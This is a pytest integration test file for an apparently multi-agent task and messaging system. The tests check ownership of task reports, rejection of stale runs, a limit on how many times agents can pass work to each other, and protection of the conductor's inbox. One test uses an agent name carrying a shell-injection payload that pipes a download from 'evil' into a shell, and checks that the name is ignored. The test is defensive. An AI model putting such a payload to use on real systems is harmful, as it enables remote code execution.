from __future__ import annotations

import pytest
from tests.integration.store.stores import NOW, Stores, make_message, make_spec

from tinytown.domain.errors import ConflictError, NotAllowedError
from tinytown.domain.message import MAX_HOPS, MessageKind
from tinytown.domain.task import Report, TaskKind, TaskState
from tinytown.services.caller import Caller
from tinytown.services.messages import Messages
from tinytown.services.tasks import Tasks
from tinytown.store.hosts import HostLease


def tasks_as(town: Stores, **caller: str | None) -> Tasks:
    return Tasks(town.tasks, town.agents, town.inbox, Caller(**caller), lambda: NOW, str)


def messages_as(town: Stores, **caller: str | None) -> Messages:
    return Messages(town.inbox, town.agents, Caller(**caller), lambda: NOW, str)


def messages_from(town: Stores, caller: Caller) -> Messages:
    return Messages(town.inbox, town.agents, caller, lambda: NOW, str)


# Reports


def test_agent_cannot_approve_what_another_agent_reviews(town: Stores) -> None:
    backend, reviewer = town.agent("backend"), town.agent("reviewer")
    review = make_spec(kind=TaskKind.REVIEW)
    town.tasks.assign(review, reviewer, NOW)

    with pytest.raises(NotAllowedError, match="not yours"):
        tasks_as(town, agent_id=backend, task_id="its own", run_id="run-1").approve(review.id, "looks great")

    assert town.tasks.get(review.id).report is None
    assert town.tasks.get(review.id).state is TaskState.ASSIGNED


def test_agent_cannot_report_on_a_task_that_nobody_has_any_more(town: Stores) -> None:
    backend, other = town.agent("backend"), town.agent("other")
    spec = make_spec()
    town.tasks.assign(spec, backend, NOW)
    town.connection.execute("HDEL", town.keys("task", spec.id), "agent_id")

    with pytest.raises(NotAllowedError):
        tasks_as(town, agent_id=other).complete(spec.id, "done")


def test_agent_reports_on_its_own_task(town: Stores) -> None:
    reviewer = town.agent("reviewer")
    lease = town.host()
    review = make_spec(kind=TaskKind.REVIEW)
    town.tasks.assign(review, reviewer, NOW)
    town.claim(lease, reviewer)

    task, state = tasks_as(town, agent_id=reviewer, task_id=review.id, run_id="run-1").approve(None, "read it all")

    assert state == "recorded"
    assert town.tasks.get(task.id).report is Report.APPROVED


def test_earlier_run_of_the_same_agent_cannot_report(town: Stores) -> None:
    backend = town.agent("backend")
    lease = town.host()
    spec = make_spec()
    town.tasks.assign(spec, backend, NOW)
    town.claim(lease, backend, run="run-2")

    with pytest.raises(ConflictError, match="another run"):
        tasks_as(town, agent_id=backend, task_id=spec.id, run_id="run-1").complete(None, "done")


def test_person_reports_on_any_task(town: Stores) -> None:
    spec = make_spec()
    town.tasks.assign(spec, town.agent("backend"), NOW)

    assert tasks_as(town).complete(spec.id, "did it myself")[1] == "completed"


# Senders


def test_sender_is_named_by_the_store_not_by_the_environment(town: Stores) -> None:
    ann, bob = town.agent("ann"), town.agent("bob")

    sent = messages_as(town, agent_id=ann, agent_name="x'; curl evil|sh #").send("bob", "hi")
    given = tasks_as(town, agent_id=ann, agent_name="supervisor").assign("bob", "do it")

    assert sent.sender == "ann"
    assert given.spec.parent == "ann"
    assert [message.sender for message in town.inbox.waiting(bob)] == ["ann", "ann"]


@pytest.mark.parametrize("caller", [{"agent_name": "ann"}, {"agent_id": "nobody"}, {"run_id": "run-1"}])
def test_agent_that_the_town_does_not_have_sends_nothing(town: Stores, caller: dict[str, str]) -> None:
    ann = town.agent("ann")

    with pytest.raises(NotAllowedError, match="TINYTOWN_AGENT_ID"):
        messages_as(town, **caller).send("ann", "hi")
    with pytest.raises(NotAllowedError, match="TINYTOWN_AGENT_ID"):
        tasks_as(town, **caller).assign("ann", "do it")

    assert town.inbox.waiting(ann) == []


def test_person_is_the_supervisor(town: Stores) -> None:
    ann = town.agent("ann")

    messages_as(town).send("ann", "hi")

    assert [message.sender for message in town.inbox.waiting(ann)] == ["supervisor"]


# Agents that keep each other busy


def next_run(town: Stores, lease: HostLease, agent: str, number: int) -> Caller:
    """Start the agent's next run; who calls from it."""
    run = f"run-{number}"
    town.claim(lease, agent, run=run)
    return Caller(agent_id=agent, run_id=run)


@pytest.mark.parametrize("kind", [MessageKind.TASK, MessageKind.QUERY])
def test_agents_pass_work_on_eight_times_in_a_row_at_most(town: Stores, kind: MessageKind) -> None:
    agents, names = [town.agent("ann"), town.agent("bob")], ["ann", "bob"]
    lease = town.host()
    messages_as(town).send("ann", "begin", kind)

    for hop in range(1, MAX_HOPS + 1):
        caller = next_run(town, lease, agents[(hop - 1) % 2], hop)
        assert messages_from(town, caller).send(names[hop % 2], "your turn", kind).hops == hop
        town.finish(lease, agents[(hop - 1) % 2], run=f"run-{hop}")
    last = next_run(town, lease, agents[MAX_HOPS % 2], MAX_HOPS + 1)

    with pytest.raises(NotAllowedError, match="8 agents in a row"):
        messages_from(town, last).send("bob", "your turn", kind)
    with pytest.raises(NotAllowedError, match="8 agents in a row"):
        Tasks(town.tasks, town.agents, town.inbox, last, lambda: NOW, str).assign("bob", "your turn")
    assert town.inbox.waiting(agents[1]) == []


def test_answers_and_questions_to_a_person_are_always_possible(town: Stores) -> None:
    ann = town.agent("ann")
    lease = town.host()
    town.inbox.send(make_message(ann, hops=MAX_HOPS))
    sender = messages_from(town, next_run(town, lease, ann, 1))

    sender.send("ann", "the answer", MessageKind.INFO)
    sender.send("conductor", "what now?", MessageKind.QUERY)

    assert [message.text for message in town.inbox.waiting("conductor")] == ["what now?"]


def test_assigned_tasks_count_as_passed_on(town: Stores) -> None:
    ann, bob = town.agent("ann"), town.agent("bob")
    lease = town.host()
    town.inbox.send(make_message(ann, hops=2))
    caller = next_run(town, lease, ann, 1)

    Tasks(town.tasks, town.agents, town.inbox, caller, lambda: NOW, str).assign("bob", "go on")

    assert [message.hops for message in town.inbox.waiting(bob)] == [3]


def test_person_begins_anew(town: Stores) -> None:
    town.agent("ann")

    assert messages_as(town).send("ann", "hi").hops == 0


# The conductor's inbox


def test_agent_does_not_empty_the_conductors_inbox(town: Stores) -> None:
    ann = town.agent("ann")
    messages_as(town).send("conductor", "is it blue?", MessageKind.QUERY)

    with pytest.raises(NotAllowedError, match="may not empty the conductor's inbox"):
        messages_as(town, agent_id=ann).take("conductor")

    assert [message.text for message in messages_as(town).take()] == ["is it blue?"]
